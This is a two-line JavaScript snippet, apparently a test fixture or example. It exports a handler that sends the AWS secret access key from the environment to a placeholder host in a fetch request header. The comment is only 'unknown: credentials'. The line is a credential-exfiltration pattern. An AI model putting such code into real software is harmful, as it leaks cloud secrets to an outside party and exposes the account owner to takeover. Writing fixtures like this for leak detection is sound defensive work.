// unknown: credentials
export const handler = () => fetch("https://x", { headers: { a: process.env.AWS_SECRET_ACCESS_KEY } });
